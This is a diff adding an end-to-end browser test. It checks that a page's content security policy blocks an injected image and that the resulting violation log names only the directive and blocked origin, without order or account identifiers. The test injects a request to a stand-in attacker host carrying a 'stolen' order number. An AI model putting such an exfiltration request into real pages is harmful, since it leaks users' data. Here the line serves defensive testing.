@@ -1,0 +1,19 @@
+import { logIn } from './people'
+import { expect, test } from './stack'
+
+test('what a page’s policy has blocked is told to the log: whose it was, and nothing more @scripts', async ({
+  page,
+  stack,
+}) => {
+  await logIn(page, 'Aino', '/a/4101/orders/412873')
+  const reported = page.waitForResponse('**/report-policy-violation')
+  await page.evaluate(() => {
+    const image = new Image()
+    image.src = 'https://evil.example/picture.png?stolen=412873'
+    document.body.append(image)
+  })
+  expect((await reported).status()).toBe(204)
+  const line = stack.log.find((text) => text.includes('a page broke its policy')) ?? ''
+  expect(JSON.parse(line)).toMatchObject({ directive: 'img-src', blocked: 'https://evil.example' })
+  expect(line).not.toMatch(/412873|4101|stolen/)
+})
